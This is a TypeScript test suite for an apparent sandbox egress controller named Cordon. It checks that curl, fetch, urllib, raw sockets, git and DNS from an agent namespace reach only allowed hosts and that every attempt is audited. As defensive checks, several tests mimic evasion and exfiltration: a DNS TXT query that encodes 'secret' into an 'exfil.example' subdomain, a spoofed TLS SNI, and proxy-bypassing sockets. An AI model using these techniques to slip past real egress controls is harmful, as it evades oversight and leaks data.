// Real clients inside a sandbox network namespace, in controlled pairs: the allowed host's
// listener gets the request, the denied host's listener gets zero bytes. Clients that honour
// proxy variables (curl, python urllib, git) and clients that do not (curl --noproxy, node
// fetch, raw python sockets, git://) are both governed: the namespace has no other way out.
import assert from 'node:assert/strict';
import { spawn, spawnSync, type ChildProcess } from 'node:child_process';
import dgram from 'node:dgram';
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import { startEgress, staticResolver, type Egress } from '../../src/net/index.js';
import { DocAddresses, Listener, MemoryAudit, policy, requireRoot, SandboxNs, sleep } from './helpers/world.js';

const A4 = '192.0.2.10';
const D4 = '192.0.2.20';
const A6 = '2001:db8::10';
const D6 = '2001:db8::20';
const GIT_PORT = 19000 + (process.pid % 1000);
let gitdErr = '';

describe('sandbox egress with real clients', () => {
  requireRoot('sandbox egress tests');
  const docs = new DocAddresses([A4, D4], [A6, D6]);
  const sb = new SandboxNs();
  const audit = new MemoryAudit();
  const repoDir = mkdtempSync(join(tmpdir(), 'cordon-net-git-'));
  const allowed = new Listener(A4, 'http', repoDir);
  const denied = new Listener(D4, 'http', repoDir);
  const allowed6 = new Listener(A6);
  const denied6 = new Listener(D6);
  const rawA = new Listener(A4, 'echo');
  const rawD = new Listener(D4, 'echo');
  const greet = new Listener(A4, 'greet');
  let gitd: ChildProcess | undefined;
  let egress: Egress;
  const pol = policy(`version: 1
name: sandbox-egress-test
network_rules:
  - name: allowed-upstream
    domains: [allowed.test, '*.allowed.test']
    cidrs: [${A4}/32, '${A6}/128']
    decision: allow
  - name: denied-upstream
    domains: [denied.test]
    decision: deny
    message: denied.test is not for agents
`);

  before(async () => {
    await docs.start();
    await sb.start();
    await allowed.start();
    await denied.start(allowed.port);
    await allowed6.start(allowed.port);
    await denied6.start(allowed.port);
    await rawA.start();
    await rawD.start(rawA.port);
    await greet.start();
    // A bare repository served by dumb HTTP (allowed/denied listeners) and by git daemon.
    const g = (args: string[], cwd = repoDir) => {
      const r = spawnSync('git', args, { cwd, encoding: 'utf8', env: { ...process.env, GIT_AUTHOR_NAME: 't', GIT_AUTHOR_EMAIL: 't@t', GIT_COMMITTER_NAME: 't', GIT_COMMITTER_EMAIL: 't@t' } });
      if (r.status !== 0) throw new Error(`git ${args.join(' ')}: ${r.stderr}`);
    };
    g(['init', '-q', '-b', 'main', 'src']);
    spawnSync('sh', ['-c', 'echo hello > README'], { cwd: join(repoDir, 'src') });
    g(['add', 'README'], join(repoDir, 'src'));
    g(['commit', '-q', '-m', 'first'], join(repoDir, 'src'));
    g(['clone', '-q', '--bare', 'src', 'repo.git']);
    g(['update-server-info'], join(repoDir, 'repo.git'));
    spawnSync('touch', [join(repoDir, 'repo.git', 'git-daemon-export-ok')]);
    // git-daemon itself (not `git daemon`, whose child would outlive a kill of the wrapper).
    const execPath = spawnSync('git', ['--exec-path'], { encoding: 'utf8' }).stdout.trim();
    gitd = spawn(join(execPath, 'git-daemon'), [`--listen=${A4}`, `--listen=${D4}`, `--port=${GIT_PORT}`, `--base-path=${repoDir}`, '--reuseaddr', repoDir], { stdio: ['ignore', 'ignore', 'pipe'] });
    gitd.stderr!.on('data', (c: Buffer) => { gitdErr += c.toString(); });
    egress = await startEgress({
      netns: sb.path, policy: pol, audit,
      resolver: staticResolver({ 'allowed.test': A4, 'git.allowed.test': A4, 'denied.test': D4, 'v6.allowed.test': A6 }),
    });
    sb.setResolvConf(egress.resolvConf);
    await sleep(200); // git daemon start
  });

  after(async () => {
    await egress?.close();
    gitd?.kill('SIGKILL');
    for (const l of [allowed, denied, allowed6, denied6, rawA, rawD, greet]) await l.close();
    await sb.close();
    await docs.close();
    rmSync(repoDir, { recursive: true, force: true });
  });

  const reset = () => { for (const l of [allowed, denied, allowed6, denied6, rawA, rawD, greet]) l.reset(); };
  const noProxy = { PATH: process.env.PATH ?? '/usr/bin:/bin' };

  test('the namespace has no way out but Cordon: only lo, every address local', async () => {
    const r = await sb.run(['ip', '-o', 'link', 'show']);
    assert.deepEqual(r.stdout.trim().split('\n').map((l) => l.split(':')[1]!.trim()), ['lo']);
  });

  test('curl with proxy variables: allowed.test reached; denied.test gets a 403 naming the rule, zero bytes', async () => {
    reset();
    const ok = await sb.run(['curl', '-sS', '-m', '5', `http://allowed.test:${allowed.port}/curl-proxy`], { env: egress.env });
    assert.equal(ok.code, 0, ok.stderr);
    assert.match(ok.stdout, new RegExp(`hello from ${A4} GET /curl-proxy`));
    assert.deepEqual(allowed.requests.map((q) => q.host), [`allowed.test:${allowed.port}`]);
    const no = await sb.run(['curl', '-sS', '-m', '5', '-w', '%{http_code}', `http://denied.test:${allowed.port}/curl-proxy`], { env: egress.env });
    assert.match(no.stdout, /Cordon denied the connection to denied\.test:\d+: rule "denied-upstream" \(network_rules\) decided deny\. denied\.test is not for agents\n403$/);
    assert.equal(denied.bytes, 0);
    assert.equal(denied.connections, 0);
  });

  test('curl through a CONNECT tunnel (-p) and through SOCKS5 (ALL_PROXY): allowed reached, denied refused', async () => {
    reset();
    for (const args of [['-p'], ['--proxy', egress.env.ALL_PROXY!]]) {
      const ok = await sb.run(['curl', '-sS', '-m', '5', ...args, `http://allowed.test:${allowed.port}/tunnel`], { env: egress.env });
      assert.equal(ok.code, 0, ok.stderr);
      const no = await sb.run(['curl', '-sS', '-m', '5', ...args, `http://denied.test:${allowed.port}/tunnel`], { env: egress.env });
      assert.notEqual(no.code, 0);
    }
    assert.equal(allowed.requests.length, 2);
    assert.equal(denied.bytes, 0);
  });

  test('curl ignoring proxy variables: names resolve through Cordon DNS (denied: NXDOMAIN), IPs are decided', async () => {
    reset();
    const byName = await sb.run(['curl', '-sS', '-m', '5', '--noproxy', '*', `http://allowed.test:${allowed.port}/direct`], { env: noProxy });
    assert.equal(byName.code, 0, byName.stderr);
    const nx = await sb.run(['curl', '-sS', '-m', '5', '--noproxy', '*', `http://denied.test:${allowed.port}/direct`], { env: noProxy });
    assert.equal(nx.code, 6, `curl exit 6 = could not resolve; got ${nx.code}: ${nx.stderr}`);
    const byIp = await sb.run(['curl', '-sS', '-m', '5', '--noproxy', '*', `http://${A4}:${allowed.port}/by-ip`], { env: noProxy });
    assert.equal(byIp.code, 0, byIp.stderr);
    const deniedIp = await sb.run(['curl', '-sS', '-m', '5', '--noproxy', '*', `http://${D4}:${allowed.port}/by-ip`], { env: noProxy });
    assert.notEqual(deniedIp.code, 0);
    assert.deepEqual(allowed.requests.map((q) => q.url), ['/direct', '/by-ip']);
    assert.equal(denied.bytes, 0);
  });

  test('IPv6 literals are captured and decided too', async () => {
    reset();
    const ok = await sb.run(['curl', '-sS', '-m', '5', '--noproxy', '*', `http://[${A6}]:${allowed.port}/v6`], { env: noProxy });
    assert.equal(ok.code, 0, ok.stderr);
    const no = await sb.run(['curl', '-sS', '-m', '5', '--noproxy', '*', `http://[${D6}]:${allowed.port}/v6`], { env: noProxy });
    assert.notEqual(no.code, 0);
    assert.equal(allowed6.requests.length, 1);
    assert.equal(denied6.bytes, 0);
  });

  test('node fetch (ignores proxy variables in Node 20): allowed reached, denied does not resolve', async () => {
    reset();
    const script = (host: string) => `fetch('http://${host}:${allowed.port}/fetch').then(async (r) => console.log(r.status, await r.text())).catch((e) => { console.log('ERR', e.cause?.code ?? e.message); process.exitCode = 3; })`;
    const ok = await sb.run([process.execPath, '-e', script('allowed.test')], { env: egress.env });
    assert.match(ok.stdout, /^200 hello from/);
    const no = await sb.run([process.execPath, '-e', script('denied.test')], { env: egress.env });
    assert.match(no.stdout, /ERR (ENOTFOUND|EAI_AGAIN)/);
    assert.equal(allowed.requests.length, 1);
    assert.equal(denied.bytes, 0);
  });

  test('python urllib (honours proxy variables): allowed reached, denied gets HTTP 403 from Cordon', async () => {
    reset();
    const py = (host: string) => `import urllib.request, urllib.error
try:
    print(urllib.request.urlopen('http://${host}:${allowed.port}/urllib', timeout=5).read().decode())
except urllib.error.HTTPError as e:
    print('HTTP', e.code, e.read().decode())`;
    const ok = await sb.run(['python3', '-c', py('allowed.test')], { env: egress.env });
    assert.match(ok.stdout, /hello from .* GET \/urllib/, ok.stderr);
    const no = await sb.run(['python3', '-c', py('denied.test')], { env: egress.env });
    assert.match(no.stdout, /^HTTP 403 Cordon denied the connection to denied\.test:\d+: rule "denied-upstream"/);
    assert.equal(denied.bytes, 0);
  });

  test('raw python sockets ignoring the proxy: allowed address echoes, denied address gets zero bytes', async () => {
    reset();
    const py = (ip: string) => `import socket
s = socket.create_connection(('${ip}', ${rawA.port}), timeout=5)
s.sendall(b'raw-bytes-from-sandbox')
try:
    print('got', s.recv(100))
except Exception as e:
    print('err', type(e).__name__)`;
    const ok = await sb.run(['python3', '-c', py(A4)], { env: noProxy });
    assert.match(ok.stdout, /got b'raw-bytes-from-sandbox'/, ok.stderr);
    const no = await sb.run(['python3', '-c', py(D4)], { env: noProxy });
    assert.doesNotMatch(no.stdout, /got b'raw/);
    assert.equal(rawA.bytes, 'raw-bytes-from-sandbox'.length);
    assert.equal(rawD.bytes, 0);
    assert.equal(rawD.connections, 0);
  });

  for (const [sni, refused] of [['evil.test', true], ['allowed.test', false]] as const) {
    test(`raw TLS to allowed.test (no proxy) with SNI ${sni}: ${refused ? 'refused, zero bytes upstream' : 'ClientHello reaches the listener (control)'}`, async () => {
      reset();
      const py = `import socket, ssl
s = socket.create_connection(('allowed.test', ${rawA.port}), timeout=5)
ctx = ssl.create_default_context(); ctx.check_hostname = False; ctx.verify_mode = ssl.CERT_NONE
try:
    ctx.wrap_socket(s, server_hostname='${sni}')
except Exception as e:
    print('tls error', type(e).__name__)`;
      await sb.run(['python3', '-c', py], { env: noProxy });
      if (refused) assert.equal(rawA.bytes, 0);
      else assert.ok(rawA.bytes > 0 && rawA.data[0] === 0x16);
    });
  }

  test('a server-speaks-first protocol by name (SSH-style banner) works through the held first flight', async () => {
    const py = `import socket
s = socket.create_connection(('allowed.test', ${greet.port}), timeout=5)
print(s.recv(100))
s.sendall(b'SSH-2.0-client\\r\\n')`;
    const r = await sb.run(['python3', '-c', py], { env: noProxy });
    assert.match(r.stdout, /SSH-2\.0-CordonTest/, r.stderr);
  });

  test('UDP other than DNS never leaves the namespace', async () => {
    const sock = dgram.createSocket('udp4');
    let got = 0;
    sock.on('message', () => { got++; });
    await new Promise<void>((res) => sock.bind(0, A4, () => res()));
    const port = sock.address().port;
    try {
      await sb.run(['python3', '-c', `import socket\ns=socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\nfor i in range(5): s.sendto(b'leak', ('${A4}', ${port}))`], { env: noProxy });
      await sleep(200);
      assert.equal(got, 0);
      // Control: the same datagram from outside the sandbox arrives.
      const out = dgram.createSocket('udp4');
      await new Promise<void>((res) => out.send('x', port, A4, () => { out.close(); res(); }));
      await sleep(100);
      assert.equal(got, 1);
    } finally {
      sock.close();
    }
  });

  test('git over HTTP (proxy variables) clones from allowed.test; denied.test is refused with zero bytes', async () => {
    reset();
    const dir = mkdtempSync(join(tmpdir(), 'cordon-net-clone-'));
    try {
      const ok = await sb.run(['git', 'clone', '-q', `http://allowed.test:${allowed.port}/repo.git`, join(dir, 'a')], { env: egress.env });
      assert.equal(ok.code, 0, ok.stderr);
      assert.equal(spawnSync('cat', [join(dir, 'a', 'README')], { encoding: 'utf8' }).stdout, 'hello\n');
      const no = await sb.run(['git', 'clone', '-q', `http://denied.test:${allowed.port}/repo.git`, join(dir, 'd')], { env: egress.env });
      assert.notEqual(no.code, 0);
      assert.match(no.stderr, /403/);
      assert.equal(denied.bytes, 0);
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });

  test('git:// (a non-HTTP protocol, no proxy) is captured: allowed name clones, denied address gets nothing', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'cordon-net-clone-'));
    try {
      const ok = await sb.run(['git', 'clone', '-q', `git://git.allowed.test:${GIT_PORT}/repo.git`, join(dir, 'a')], { env: noProxy });
      assert.equal(ok.code, 0, ok.stderr);
      const no = await sb.run(['git', 'clone', '-q', `git://${D4}:${GIT_PORT}/repo.git`, join(dir, 'd')], { env: noProxy });
      assert.notEqual(no.code, 0);
      const connects = audit.events.filter((e) => e.operation === 'connect' && (e.fields as { port?: number }).port === GIT_PORT);
      assert.deepEqual(connects.map((e) => [e.subject, e.decision]), [[`git.allowed.test:${GIT_PORT}`, 'allow'], [`${D4}:${GIT_PORT}`, 'deny']]);
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });

  test('DNS: denied names NXDOMAIN, TXT to an unlisted zone NXDOMAIN, ANY refused, allowed A is a synthetic address', async () => {
    const q = (name: string, type: number) => `import socket, struct
def q(name, t):
    msg = struct.pack('>HHHHHH', 0x1234, 0x0100, 1, 0, 0, 0) + b''.join(bytes([len(p)]) + p.encode() for p in name.split('.')) + b'\\0' + struct.pack('>HH', t, 1)
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(3)
    s.sendto(msg, ('9.9.9.9', 53))  # any address: port 53 is Cordon's
    r = s.recv(512)
    print(r[3] & 15, struct.unpack('>H', r[6:8])[0], socket.inet_ntoa(r[-4:]) if struct.unpack('>H', r[6:8])[0] else '-')
q('${name}', ${type})`;
    const a = await sb.run(['python3', '-c', q('allowed.test', 1)], { env: noProxy });
    assert.match(a.stdout, /^0 1 198\.1[89]\.\d+\.\d+$/m, a.stderr);
    assert.match((await sb.run(['python3', '-c', q('denied.test', 1)], { env: noProxy })).stdout, /^3 0 -$/m);
    assert.match((await sb.run(['python3', '-c', q('c2VjcmV0.exfil.example', 16)], { env: noProxy })).stdout, /^3 0 -$/m);
    assert.match((await sb.run(['python3', '-c', q('allowed.test', 255)], { env: noProxy })).stdout, /^5 0 -$/m);
    const exfil = audit.events.find((e) => e.operation === 'dns' && e.subject.startsWith('c2vjcmv0.exfil.example'));
    assert.equal(exfil?.decision, 'deny');
  });

  test('every attempt is in the audit trail with name, address, port, decision and bytes', () => {
    const denials = audit.events.filter((e) => e.decision === 'deny' && e.operation === 'connect');
    assert.ok(denials.some((e) => e.subject.startsWith('denied.test:') && e.rule === 'denied-upstream'));
    assert.ok(denials.some((e) => e.subject.startsWith(`${D4}:`)));
    const closes = audit.events.filter((e) => e.operation === 'close' && e.subject.startsWith('allowed.test:'));
    assert.ok(closes.length > 0);
    assert.ok(closes.every((e) => typeof (e.fields as { bytesDown?: number }).bytesDown === 'number'));
    assert.ok(audit.events.every((e) => e.session === 'egress' && typeof e.policyDigest === 'string'));
  });
});
